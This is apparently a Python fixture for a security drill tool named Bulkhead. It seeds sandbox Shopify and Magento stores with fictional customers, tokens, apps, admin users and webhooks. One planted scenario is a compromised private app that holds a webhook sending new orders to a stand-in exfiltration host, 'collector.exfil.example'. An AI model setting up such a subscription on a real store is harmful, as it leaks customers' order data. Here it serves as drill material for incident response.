"""The data a sandbox store starts with: a few customers, tokens, webhooks, apps and admin users.

The ids line up with the drill's signals (customers 7001-7004, app 9912345, integration 12). Each
webhook subscription and storefront token belongs to the app that made it, as on Shopify: Bulkhead's
app owns its delivery paths (HTTPS topics and the EventBridge audit feed) and one storefront token;
the headless channel owns the storefront's tokens; the compromised custom app owns the subscription
that sends orders away; the CRM app owns its own.
"""

from bulkhead.sandbox.audience import fictional_email, fictional_phone
from bulkhead.sandbox.shopify.apps_model import bulkhead_installation
from bulkhead.sandbox.shopify.operations.storefront_tokens import new_token
from bulkhead.sandbox.shopify.operations.webhooks import subscription
from bulkhead.sandbox.state import StoreState

CUSTOMER_IDS = (7001, 7002, 7003, 7004, 7005, 7006)
COMPROMISED_APP_ID = 9912345
CRM_APP = "gid://shopify/App/1200002"
HEADLESS_APP = "gid://shopify/App/1200003"
COMPROMISED_APP = f"gid://shopify/App/{COMPROMISED_APP_ID}"
# Bulkhead's own delivery paths on a sandbox store (what `docs/deploy.md` has the app subscribe).
BULKHEAD_WEBHOOK_URL = "https://bulkhead.local/webhooks/shopify"
BULKHEAD_PARTNER_SOURCE = "arn:aws:events:eu-west-1::event-source/aws.partner/shopify.com/bulkhead/acme"
BULKHEAD_SUBSCRIPTIONS = {
    "BULK_OPERATIONS_FINISH": BULKHEAD_WEBHOOK_URL,
    "APP_SCOPES_UPDATE": BULKHEAD_WEBHOOK_URL,
    "APP_UNINSTALLED": BULKHEAD_WEBHOOK_URL,
    "THEMES_PUBLISH": BULKHEAD_WEBHOOK_URL,
    "AUDIT_EVENTS_ADMIN_API_ACTIVITY": BULKHEAD_PARTNER_SOURCE,
}
# (country, locale) of the Shopify sandbox customers: the EU store's markets. Their contacts are
# fictional (`audience.fictional_email`, `audience.fictional_phone`: why those ranges).
SHOPIFY_CONTACTS = (("DE", "de"), ("FR", "fr"), ("ES", "es"))


def seed_shopify(state: StoreState, shop_domain: str) -> None:
    with state.lock:
        state.table("shop")["shop"] = {
            "__typename": "Shop",
            "id": "gid://shopify/Shop/1",
            "name": state.store_id,
            "myshopifyDomain": shop_domain,
            "plan": {"shopifyPlus": True, "partnerDevelopment": False},
        }
        for n in CUSTOMER_IDS:
            gid = f"gid://shopify/Customer/{n}"
            country, locale = SHOPIFY_CONTACTS[n % len(SHOPIFY_CONTACTS)]
            email, phone = fictional_email(n), fictional_phone(n)
            state.table("customers")[gid] = {
                "__typename": "Customer",
                "id": gid,
                "displayName": f"Sandbox Customer {n}",
                "firstName": "Sandbox",
                # A reserved domain and a fictional number: a sandbox customer can never be a real person.
                # `email` and `phone` are deprecated for `defaultEmailAddress` / `defaultPhoneNumber`
                # (https://shopify.dev/docs/api/admin-graphql/latest/objects/Customer); both are served.
                "email": email,
                "phone": phone,
                "defaultEmailAddress": {"emailAddress": email},
                "defaultPhoneNumber": {"phoneNumber": phone},
                "locale": locale,
                "defaultAddress": {"countryCodeV2": country, "provinceCode": None},
                "tags": ["private-client"] if n % 2 else [],
                "segments": [],
                "state": "ENABLED",
            }
        state.table("current_app")["installation"] = bulkhead_installation()
        new_token(state, "Headless storefront", app=HEADLESS_APP)
        new_token(state, "Mobile app", app=HEADLESS_APP)
        new_token(state, "Bulkhead status banner")
        for n, (topic, uri) in enumerate(BULKHEAD_SUBSCRIPTIONS.items(), start=6001):
            gid = f"gid://shopify/WebhookSubscription/{n}"
            state.table("webhooks")[gid] = subscription(gid, topic, {"uri": uri})
        for gid, topic, uri, app in (
            (
                "gid://shopify/WebhookSubscription/5001",
                "CUSTOMERS_CREATE",
                "https://crm.acme-wealth.example/hooks/shopify",
                CRM_APP,
            ),
            (
                "gid://shopify/WebhookSubscription/5002",
                "ORDERS_CREATE",
                "https://collector.exfil.example/o",
                COMPROMISED_APP,
            ),
        ):
            state.table("webhooks")[gid] = subscription(gid, topic, {"uri": uri}, app)
        for app_id, title, scopes, private in (
            (COMPROMISED_APP_ID, "Customer Insights Export", ("read_customers", "read_orders"), True),
            (1200001, "Acme Reviews", ("read_products",), False),
            (1200002, "Acme CRM", ("read_customers",), False),
            (1200003, "Headless", ("unauthenticated_read_product_listings",), False),
        ):
            gid = f"gid://shopify/AppInstallation/{app_id}"
            handle = title.lower().replace(" ", "-")
            state.table("apps")[gid] = {
                "__typename": "AppInstallation",
                "id": gid,
                "app": {"id": f"gid://shopify/App/{app_id}", "title": title, "handle": handle, "isPrivate": private},
                "accessScopes": [{"handle": s} for s in scopes],
            }


def seed_magento(state: StoreState) -> None:
    with state.lock:
        for n in CUSTOMER_IDS:
            state.table("customers")[str(n)] = {
                "id": n,
                "group_id": 1,
                "email": fictional_email(n),
                "firstname": "Sandbox",
                "lastname": f"Customer {n}",
                "store_id": 1,
                "website_id": 1,
                "active_tokens": None if n % 3 == 0 else 2,  # None: JWT tokens, not countable
            }
        for user_id, username in ((1, "admin"), (7, "ops.contractor")):
            state.table("admin_users")[username] = {
                "user_id": user_id,
                "username": username,
                "is_active": True,
                "lock_expires": None,
            }
        for integration_id, name in ((12, "ERP connector"), (14, "Marketing sync")):
            state.table("integrations")[str(integration_id)] = {"id": integration_id, "name": name, "status": 1}
        for code, title in (("checkmo", "Check / Money order"), ("braintree", "Credit card (Braintree)")):
            state.table("payment_methods")[code] = {"code": code, "title": title, "active": True, "scope": "default"}
